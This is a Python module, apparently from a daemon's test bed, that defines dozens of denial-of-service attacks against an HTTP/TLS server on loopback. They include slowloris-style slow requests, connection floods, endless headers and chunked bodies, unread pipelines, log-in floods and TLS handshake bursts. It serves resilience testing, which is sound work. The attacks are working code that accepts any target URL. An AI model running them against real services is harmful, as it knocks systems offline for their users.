"""Hostile clients of the daemon: raw sockets that do what no honest client does.

    python -m testbed.attackers NAME URL COOKIE SOURCE

attacks from the address SOURCE until SIGTERM, and prints the number of connections that it has
opened.

Each attack is an endless (or long) coroutine that a test cancels. A connection that the daemon
closes is not an error of the attack: it continues with a new one. Sleeps set the attack's pace.
"""

import asyncio
import base64
import os
import resource
import signal
import socket
import ssl
import struct
import sys
from collections.abc import Awaitable, Callable
from contextlib import asynccontextmanager, suppress
from dataclasses import dataclass, field
from urllib.parse import urlsplit

from testbed.client_hello import X25519, client_hello, ffdhe8192_hello
from testbed.driver import FETCH, PASSWORD, USER

PIECE = b"x" * 65536
ATTACKERS_ADDRESS = "127.0.0.2"
"""Another one than that of the honest client; all of 127.0.0.0/8 is loopback."""
FIELD = b"X-Long: " + b"v" * 8000 + b"\r\n"
UNVERIFIED = ssl.create_default_context()
UNVERIFIED.check_hostname = False
UNVERIFIED.verify_mode = ssl.CERT_NONE
UPLOAD = "/api/upload/firmware"
LOG_IN = "/api/authentication"


@dataclass
class Target:
    """The daemon under attack, and a session cookie for attacks by a logged-in client."""

    url: str
    cookie: str
    source: str = ATTACKERS_ADDRESS
    connected: int = 0
    writers: list[asyncio.StreamWriter] = field(default_factory=list)

    @asynccontextmanager
    async def connection(self):
        """A connection to the daemon, over TLS if it uses that; aborted with the context."""
        async with self.socket(UNVERIFIED if self.url.startswith("https:") else None) as pair:
            yield pair

    @asynccontextmanager
    async def socket(self, tls: ssl.SSLContext | None = None):
        """A connection without TLS, or with ``tls``, whatever the daemon expects."""
        parts = urlsplit(self.url)
        reader, writer = await asyncio.open_connection(
            parts.hostname,
            parts.port,
            limit=4096,
            ssl=tls,
            local_addr=(self.source, 0),
        )
        self.connected += 1
        try:
            yield reader, writer
        finally:
            writer.transport.abort()

    def head(self, method: str, path: str, *fields: str, logged_in: bool = True) -> bytes:
        """The request line and header fields, with the session cookie if ``logged_in``."""
        cookie = (f"Cookie: {self.cookie}",) if logged_in else ()
        return "\r\n".join(
            [f"{method} {path} HTTP/1.1", "Host: x", *cookie, *fields, "", ""]
        ).encode()


Attack = Callable[[Target], Awaitable[None]]


def many(number: int, attack: Attack, *, reconnect: bool = True, pause_s: float = 0.1) -> Attack:
    """``number`` concurrent attackers; with ``reconnect`` each starts again after it ends."""

    async def attacker(target: Target) -> None:
        while True:
            with suppress(OSError, EOFError):
                await attack(target)
            if not reconnect:
                await asyncio.Event().wait()
            await asyncio.sleep(pause_s)

    async def all_attackers(target: Target) -> None:
        async with asyncio.TaskGroup() as group:
            for _ in range(number):
                group.create_task(attacker(target))

    return all_attackers


async def slow_head(target: Target) -> None:
    async with target.connection() as (_, writer):
        writer.write(b"GET / HTTP/1.1\r\nX-Slow: ")
        while True:
            writer.write(b"a")
            await writer.drain()
            await asyncio.sleep(1)


async def slow_body(target: Target, path: str = FETCH) -> None:
    async with target.connection() as (_, writer):
        writer.write(target.head("POST", path, "Content-Length: 60000"))
        while True:
            writer.write(b" ")
            await writer.drain()
            await asyncio.sleep(1)


async def slow_upload(target: Target) -> None:
    await slow_body(target, UPLOAD)


async def idle(target: Target) -> None:
    async with target.connection() as (reader, _):
        await reader.read()


async def idle_after_one_request(target: Target) -> None:
    async with target.connection() as (reader, writer):
        writer.write(target.head("GET", "/api"))
        while await reader.read(4096):
            pass


async def endless(target: Target, beginning: bytes, piece: bytes) -> None:
    """Send ``beginning``, then ``piece`` again and again until the daemon responds."""
    async with target.connection() as (reader, writer):
        writer.write(beginning)
        response = asyncio.create_task(reader.read(1))
        try:
            while not response.done():
                writer.write(piece)
                await writer.drain()
                await asyncio.sleep(0)
            await asyncio.sleep(0.05)
        finally:
            response.cancel()
            # The daemon may reset the connection: the attack expects that.
            await asyncio.gather(response, return_exceptions=True)


async def one_huge_field(target: Target) -> None:
    await endless(target, b"GET / HTTP/1.1\r\nX-Long: ", PIECE)


async def many_fields(target: Target) -> None:
    await endless(target, b"GET / HTTP/1.1\r\n", b"X-Many: 1\r\n" * 1000)


async def endless_request_line(target: Target) -> None:
    await endless(target, b"GET /", PIECE)


async def huge_body(target: Target) -> None:
    await endless(target, target.head("POST", FETCH, f"Content-Length: {10**10}"), PIECE)


async def endless_chunks(target: Target) -> None:
    head = target.head("POST", FETCH, "Transfer-Encoding: chunked")
    await endless(target, head, b"10000\r\n" + PIECE + b"\r\n")


async def body_to_log_in(target: Target) -> None:
    head = target.head("GET", LOG_IN, f"Content-Length: {10**10}", logged_in=False)
    await endless(target, head, PIECE)


async def deep_nesting(target: Target) -> None:
    body = b"[" * 60_000
    async with target.connection() as (reader, writer):
        writer.write(target.head("POST", FETCH, f"Content-Length: {len(body)}") + body)
        line = await reader.readline()
        assert line.startswith(b"HTTP/1.1 400 "), line


async def pipelined(target: Target) -> None:
    """Thousands of pipelined requests, without reading a response."""
    await unread(target, target.head("GET", "/api") * 1000)


async def unread_lists(target: Target) -> None:
    await unread(target, target.head("GET", FETCH))


async def unread_events(target: Target) -> None:
    """A subscription that is not read; every two seconds the attacker also causes events."""
    async with target.connection() as (_, writer):
        sock = writer.get_extra_info("socket")
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        writer.transport.pause_reading()
        writer.write(target.head("GET", FETCH, "Accept: text/event-stream"))
        while not writer.transport.is_closing():
            await change(target)
            await asyncio.sleep(2)


async def change(target: Target) -> None:
    """Submit a download that fails at once, which causes events for every subscriber."""
    body = b'{"url": "http://127.0.0.1:1/none", "checksum": {"sha256": "%s"}}' % (b"f" * 64)
    async with target.connection() as (reader, writer):
        writer.write(target.head("POST", FETCH, f"Content-Length: {len(body)}") + body)
        await reader.readline()


async def waiting(target: Target) -> None:
    async with target.connection() as (reader, writer):
        writer.write(target.head("GET", f"{FETCH}?wait=60"))
        await reader.readline()


async def subscribe_and_disconnect(target: Target) -> None:
    """Subscribe, and disconnect after the first event."""
    async with target.connection() as (reader, writer):
        writer.write(target.head("GET", FETCH, "Accept: text/event-stream"))
        await reader.readuntil(b"event: ")


async def unread(target: Target, requests: bytes) -> None:
    """Send ``requests`` again and again, and read nothing: the receive buffer has 4 KiB."""
    async with target.connection() as (_, writer):
        sock = writer.get_extra_info("socket")
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        writer.transport.pause_reading()
        while True:
            writer.write(requests)
            await writer.drain()
            await asyncio.sleep(0.2)


async def resets(target: Target) -> None:
    """Request a long response, and reset the connection (RST) after its first byte."""
    async with target.connection() as (reader, writer):
        writer.get_extra_info("socket").setsockopt(
            socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0)
        )
        writer.write(target.head("GET", FETCH))
        await reader.read(1)


def basic(name: str, password: str) -> str:
    return "Authorization: Basic " + base64.b64encode(f"{name}:{password}".encode()).decode()


async def log_in_once(target: Target, name: str, password: str) -> None:
    async with target.connection() as (reader, writer):
        for number in range(1000):
            field = basic(name.format(number=number), password)
            writer.write(target.head("GET", LOG_IN, field, logged_in=False))
            head = await reader.readuntil(b"\r\n\r\n")
            length = int(head.lower().split(b"content-length:")[1].split()[0])
            await reader.readexactly(length)


async def unknown_users_log_in(target: Target) -> None:
    """A new user name for each request, so that no user name collects failures."""
    await log_in_once(target, f"{id(asyncio.current_task())}-{{number}}", "guess")


async def known_user_logs_in(target: Target) -> None:
    await log_in_once(target, USER, PASSWORD)


async def silent(target: Target) -> None:
    """A TCP connection that sends nothing, not even a TLS handshake."""
    async with target.socket() as (reader, _):
        await reader.read()


async def growing_head(target: Target) -> None:
    """A head of 128 fields of 8 KiB, a field at a time, and then no end."""
    async with target.connection() as (reader, writer):
        writer.write(b"GET / HTTP/1.1\r\n")
        for _ in range(127):
            writer.write(FIELD)
            await writer.drain()
            await asyncio.sleep(0.05)
        await reader.read()


async def unfinished_head(target: Target) -> None:
    """A head of 31 KiB that lacks its last byte."""
    async with target.connection() as (reader, writer):
        writer.write(b"GET / HTTP/1.1\r\n" + FIELD * 3 + b"X: " + b"v" * 7000 + b"\r\n\r")
        await reader.read()


async def slow_reader(target: Target) -> None:
    """Read the longest file of the daemon, two KiB a second."""
    async with target.connection() as (reader, writer):
        sock = writer.get_extra_info("socket")
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        head = target.head("GET", "/api/docs/swagger-ui-bundle.js", logged_in=False)
        writer.write(head)
        while await reader.read(2048):
            await asyncio.sleep(1)


async def huge_chunk_length(target: Target) -> None:
    head = target.head("POST", LOG_IN, "Transfer-Encoding: chunked", logged_in=False)
    await endless(target, head + b"F" * 15 + b"\r\n", PIECE)


async def endless_chunk_extension(target: Target) -> None:
    head = target.head("POST", LOG_IN, "Transfer-Encoding: chunked", logged_in=False)
    await endless(target, head + b"1;", PIECE)


async def pipelined_without_log_in(target: Target) -> None:
    await unread(target, target.head("GET", "/none", logged_in=False) * 1000)


async def resume_events(target: Target) -> None:
    """Subscribe with a new identifier of the last event each time, and read a little."""
    async with target.connection() as (reader, writer):
        field = f"Last-Event-ID: {os.urandom(2000).hex()}"
        writer.write(target.head("GET", FETCH, "Accept: text/event-stream", field))
        await reader.read(4096)


async def half_open_handshake(target: Target) -> None:
    """The first part of a ClientHello, without its end."""
    async with target.socket() as (reader, writer):
        writer.write(client_hello(X25519, bytes(31) + b"\x09", padding=2000)[:1000])
        await reader.read()


async def unfinished_handshake(target: Target) -> None:
    """A whole ClientHello, which the daemon answers, and nothing after it."""
    async with target.socket() as (reader, writer):
        writer.write(client_hello(X25519, bytes(31) + b"\x09"))
        while await reader.read(4096):
            pass


async def broken_records(target: Target) -> None:
    async with target.socket() as (reader, writer):
        writer.write(b"\x16\x03\x01\x40\x00" + os.urandom(0x4000))
        await reader.read()


def hellos_in_bursts(number: int, hello: Callable[[], bytes]) -> Attack:
    """``number`` connections that all send the same ClientHello at the same time, and again."""

    async def burst(target: Target) -> None:
        recorded = hello()
        while True:
            ready = asyncio.Barrier(number)

            async def send(ready: asyncio.Barrier = ready) -> None:
                try:
                    async with target.socket() as (reader, writer):
                        await ready.wait()
                        writer.write(recorded)
                        await reader.read(4096)
                except (OSError, asyncio.BrokenBarrierError):
                    await ready.abort()

            await asyncio.gather(*(send() for _ in range(number)))

    return burst


ATTACKS: dict[str, Attack] = {
    "200 heads, a byte a second": many(200, slow_head),
    "200 JSON bodies, a byte a second": many(200, slow_body),
    "20 uploads, a byte a second": many(20, slow_upload),
    "3,000 idle connections": many(3000, idle, reconnect=False),
    "1,000 idle connections that reconnect": many(1000, idle, pause_s=1),
    "1,000 idle after one request": many(1000, idle_after_one_request, reconnect=False),
    "10 endless header fields": many(10, one_huge_field),
    "10 endless lists of fields": many(10, many_fields),
    "10 endless request lines": many(10, endless_request_line),
    "10 bodies of 10 GB": many(10, huge_body),
    "10 endless chunked bodies": many(10, endless_chunks),
    "10 bodies of 10 GB to the log-in": many(10, body_to_log_in),
    "10 deeply nested bodies": many(10, deep_nesting),
    "20 pipelines of thousands, unread": many(20, pipelined),
    "20 lists of jobs, unread": many(20, unread_lists),
    "200 event streams, unread": many(200, unread_events),
    "20 event streams, closed after an event": many(20, subscribe_and_disconnect, pause_s=0),
    "200 long polls for a change": many(200, waiting),
    "20 resets while a list is sent": many(20, resets),
    "40 log-ins of unknown users": many(40, unknown_users_log_in),
    "10 log-ins with the password": many(10, known_user_logs_in),
    "1,000 silent connections": many(1000, silent, pause_s=0.5),
    "480 heads of 128 fields of 8 KiB": many(480, growing_head),
    "480 unfinished heads of 31 KiB": many(480, unfinished_head),
    "400 slow readers of a long file": many(400, slow_reader),
    "10 chunks of an impossible length": many(10, huge_chunk_length),
    "10 endless chunk extensions": many(10, endless_chunk_extension),
    "20 pipelines without a log-in, unread": many(20, pipelined_without_log_in),
    "50 event streams resumed with new identifiers": many(50, resume_events),
}
TLS_ATTACKS: dict[str, Attack] = {
    "300 recorded hellos of ffdhe8192 at a time": hellos_in_bursts(300, ffdhe8192_hello),
    "300 recorded hellos of X25519 at a time": hellos_in_bursts(
        300, lambda: client_hello(X25519, bytes(31) + b"\x09")
    ),
    "1,000 handshakes without their first end": many(1000, half_open_handshake),
    "1,000 handshakes without their last end": many(1000, unfinished_handshake),
    "100 broken TLS records": many(100, broken_records),
}
"""Attacks on a daemon with TLS, as well as :data:`ATTACKS`."""


async def main(name: str, url: str, cookie: str, source: str) -> None:
    target = Target(url, cookie, source)
    attack = asyncio.ensure_future((ATTACKS | TLS_ATTACKS)[name](target))
    asyncio.get_running_loop().add_signal_handler(signal.SIGTERM, attack.cancel)
    print("attacking", flush=True)
    await asyncio.wait([attack])
    if not attack.cancelled():
        attack.result()
    print(target.connected)


if __name__ == "__main__":
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    asyncio.run(main(*sys.argv[1:]))
